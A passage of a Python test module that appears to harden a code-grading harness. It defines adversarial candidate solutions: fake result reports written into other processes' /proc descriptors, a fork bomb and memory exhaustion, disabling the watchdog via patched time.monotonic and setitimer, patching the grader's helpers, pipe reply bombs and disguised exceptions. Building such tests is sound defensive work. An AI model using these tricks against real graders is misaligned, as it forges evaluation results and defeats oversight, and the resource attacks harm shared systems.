    nonce, run = _nonce_and_run()
    data = _fake_report(nonce, run)
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        for fd in ("1", "2", "3", "4", "5"):
            try:
                target = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(target, data)
            except OSError:
                pass
            os.close(target)
''',
    "close_every_fd": r'''
def _attack():
    null = os.open(os.devnull, os.O_RDWR)
    for fd in range(64):
        if fd != null:
            try:
                os.dup2(null, fd)
            except OSError:
                pass
''',
    "exhaust_memory": r'''
_HOARD = []


def _attack():
    try:
        while True:
            _HOARD.append(bytearray(1 << 24))
    except MemoryError:
        pass
''',
    "exhaust_pids": r'''
def _attack():
    try:
        while True:
            if os.fork() == 0:
                time.sleep(2)
                os._exit(0)
    except OSError:
        pass
''',
    "oversized_error_report": r'''
def _attack():
    # Whatever trims our error reports runs in a process we share: make it trim nothing.
    frame = sys._getframe()
    while frame is not None:
        scope = frame.f_globals
        for name in ("_short", "_short_repr"):
            if callable(scope.get(name)):
                scope[name] = lambda value, limit=0: str(value)
        if callable(scope.get("_trimmed_traceback")):
            scope["_trimmed_traceback"] = lambda exc, limit=0: "t" * 1_000_000
        frame = frame.f_back
    raise ValueError("m" * 1_000_000)
''',
    "lift_output_cap_and_flood": r'''
def _attack():
    # Both designs keep the candidate's prints in a buffer with a `cap`: lift it and flood.
    for stream in (sys.stdout, sys.stderr):
        if hasattr(stream, "cap"):
            stream.cap = 10 ** 9
    print("x" * 300_000)
    print("y" * 300_000, file=sys.stderr)
''',
}
_STARVE_ONE_STYLE: dict[str, tuple[int, str]] = {
    # Slow against today's code (they run until the outer wall clock): one style each.
    "fake_report_then_sleep_with_timers_disarmed": (0, r'''
def _attack():
    nonce, run = _nonce_and_run()
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    time.monotonic = lambda: 0.0  # the harness's watchdog never sees its deadline pass
    data = _fake_report(nonce, run)
    print(data.decode())
    os.write(1, data)
    while True:
        time.sleep(0.05)
'''),
    "disarm_timers_then_hang": (0, r'''
signal.setitimer = lambda *args, **kwargs: (0.0, 0.0)
time.monotonic = lambda: 0.0


def _attack():
    while True:
        time.sleep(0.05)
'''),
    "reply_bomb_into_every_pipe": (1, r'''
import stat


def _attack():
    # A reply header and 30 MB of nested empty lists: memory for whoever decodes it.
    body = b"[" + b"[]," * 10_000_000 + b"[]]"
    data = len(body).to_bytes(4, "big") + body
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass
    os._exit(0)
'''),
}

# -- 5. exceptions and iteration ---------------------------------------------------------------

_EXCEPTIONS: dict[str, tuple[list[Suite], str, float]] = {
    "shadowed_valueerror_class": (RAISES, r'''
import math


class ValueError(Exception):
    """Not the builtin: a test's `except ValueError` must not catch it."""


def f(x):
    if x < 0:
        raise ValueError("negative")
    return math.isqrt(x)
''', 0.5),
    "exception_renamed_valueerror": (RAISES, r'''
import math


class NotAValueError(Exception):
    pass


NotAValueError.__name__ = NotAValueError.__qualname__ = "ValueError"


def f(x):
    if x < 0:
        raise NotAValueError("negative")
    return math.isqrt(x)
''', 0.5),
    "raises_wrong_exception_type": (RAISES, r'''
import math


def f(x):
    if x < 0:
        raise TypeError("negative")
    return math.isqrt(x)
''', 0.5),
    "stop_iteration_empties_map": (MAPPED, r'''
def f(x):
    raise StopIteration
''', 0.0),
}

# -- 6. encodings that lose what the test checks -----------------------------------------------

_LOSSY = {
    "tuple_as_list": '{"tuple": [1, 2]}',
    "int_keys_as_strings": '{"dict": {"1": "a", "(2, 3)": [4, {"5": None}]}}',
    "true_as_1": '{"true": 1}',
    "false_as_0": '{"false": 0}',
    "int_as_float": '{"int": 1.0}',
    "set_as_list": '{"set": [1, 2, 3]}',
    "frozenset_as_set": '{"frozenset": {1}}',
    "bytes_as_str": '{"bytes": "\\x00\\xff\\n"}',
    "negative_zero_as_zero": '{"negative_zero": 0.0}',
    "big_int_off_by_one": '{"big": 2 ** 200 - 1}',
    "none_as_string": '{"none": "None"}',
}


def _build() -> list[Case]:
    cases: list[Case] = []
    for suite in ALL_SUITES:
        cases.append(Case(f"control.constant_wrong_answer.{suite.name}", "control", suite,
                          _source(_PRELUDE, _RETURN_WRONG, n_tests=suite.n_tests), WRONG_ANSWER))
    for suite in NUMERIC:
        for name, body in _SHARED.items():
            cases.append(Case(f"shared.{name}.{suite.name}", "shared", suite,
                              _source(_PRELUDE, body, n_tests=suite.n_tests)))
    for name, (suites, body) in _OBJECTS.items():
        for suite in suites:
            allowed = WRONG_ANSWER if name.startswith(("shadow", "patch")) else NOT_PLAIN_DATA
            # The lying list crosses as the empty list it really holds, which honestly passes
            # the suite's one type test (`isinstance(f(1), list)`) and nothing else.
            honest = 0.25 if name == "list_subclass_lying_len_iter_eq" else 0.0
            cases.append(Case(f"lying.{name}.{suite.name}", "lying", suite,
                              _source(_PRELUDE, body, n_tests=suite.n_tests), allowed,
                              max_score=honest))
    for base, value in _SUBCLASSES.items():
        body = _LYING_SUBCLASS.format(base=base, value=value)
        for suite in SQUARE:
            cases.append(Case(f"lying.{base}_subclass_equal_to_everything.{suite.name}", "lying",
                              suite, _source(_PRELUDE, body, n_tests=suite.n_tests),
                              NOT_PLAIN_DATA))
    for name, body in _ORACLES.items():
        for suite in NUMERIC:
            cases.append(Case(f"oracle.{name}.{suite.name}", "oracle", suite,
                              _source(_PRELUDE, body, n_tests=suite.n_tests),
                              frozenset({FAILED, VerdictStatus.TIMEOUT}), load_timeout_s=4.0))
    for name, body in _STARVE.items():
        for suite in TWO:
            cases.append(Case(f"starve.{name}.{suite.name}", "starve", suite,
                              _source(_PRELUDE, body, _AFTER_ONE_HONEST_ANSWER, n_tests=2),
                              max_score=0.5))
    for name, (style, body) in _STARVE_ONE_STYLE.items():
        suite = TWO[style]
        cases.append(Case(f"starve.{name}.{suite.name}", "starve", suite,
                          _source(_PRELUDE, body, _AFTER_ONE_HONEST_ANSWER, n_tests=2),
                          max_score=0.5, test_timeout_s=0.5, load_timeout_s=1.0))
    for name, (suites, body, honest_share) in _EXCEPTIONS.items():
        for suite in suites:
            cases.append(Case(f"exceptions.{name}.{suite.name}", "exceptions", suite, body,
                              WRONG_ANSWER, max_score=honest_share))
    for name, overrides in _LOSSY.items():
        candidate = ENCODING.honest.replace("_OVERRIDES = {}", f"_OVERRIDES = {overrides}")
        cases.append(Case(f"encoding.{name}.{ENCODING.name}", "encoding", ENCODING, candidate,
                          WRONG_ANSWER, max_score=1.0))
    cases.append(Case(
        "helpers.lying_poly_against_trusted_poly", "helpers", HUMANEVAL_32_TRUSTED_POLY,
        "def poly(xs, x):\n    return 0.0\n\n\ndef find_zero(xs):\n    return 12345.0\n",
        WRONG_ANSWER,
    ))
    return cases


def _honest_case(name: str, suite: Suite, candidate: str) -> Case:
    return Case(f"honest.{name}", "honest", suite, candidate,
                frozenset({VerdictStatus.PASSED}), max_score=1.0,
                test_timeout_s=5.0, load_timeout_s=5.0)


def _honest() -> list[Case]:
    cases = [_honest_case(s.name, s, s.honest) for s in ALL_SUITES]
    printing = (
        "import sys\nprint('loading', 'x' * 100_000)\nprint('e' * 100_000, file=sys.stderr)\n\n\n"
        "def f(x):\n    print('called with', x, 'y' * 50_000)\n    return x * x\n"
    )
    cases += [_honest_case(f"prints_a_lot.{s.name}", s, printing) for s in SQUARE]
    subclass = (
        "import math\n\n\nclass NegativeInput(ValueError):\n    pass\n\n\ndef f(x):\n"
        "    if x < 0:\n        raise NegativeInput('negative')\n    return math.isqrt(x)\n"
    )
    cases += [_honest_case(f"raises_valueerror_subclass.{s.name}", s, subclass) for s in RAISES]
    uses_str = HUMANEVAL_38.honest.replace("return encode_cyclic(encode_cyclic(s))",
                                           "return str(encode_cyclic(encode_cyclic(s)))")
    cases += [
        _honest_case("helper_poly_from_candidate", HUMANEVAL_32, _FIND_ZERO),
        _honest_case("helper_poly_in_tests", HUMANEVAL_32_TRUSTED_POLY, _FIND_ZERO),
        _honest_case("helper_encode_cyclic", HUMANEVAL_38, HUMANEVAL_38.honest),
        # The check assigns a global `str`; the candidate's own `str()` must still be the builtin.
        _honest_case("helper_encode_cyclic_using_str", HUMANEVAL_38, uses_str),
        _honest_case("top_level_constant", CONSTANT, CONSTANT.honest),
        _honest_case("plain_data_of_every_kind", ENCODING, ENCODING.honest),
        _honest_case("int_past_4300_digits", HUGE_INT, HUGE_INT.honest),
        _honest_case("namedtuple_for_tuple", NAMEDTUPLE, NAMEDTUPLE.honest),
    ]
    return cases


FORGERIES: list[Case] = _build()
HONEST: list[Case] = _honest()
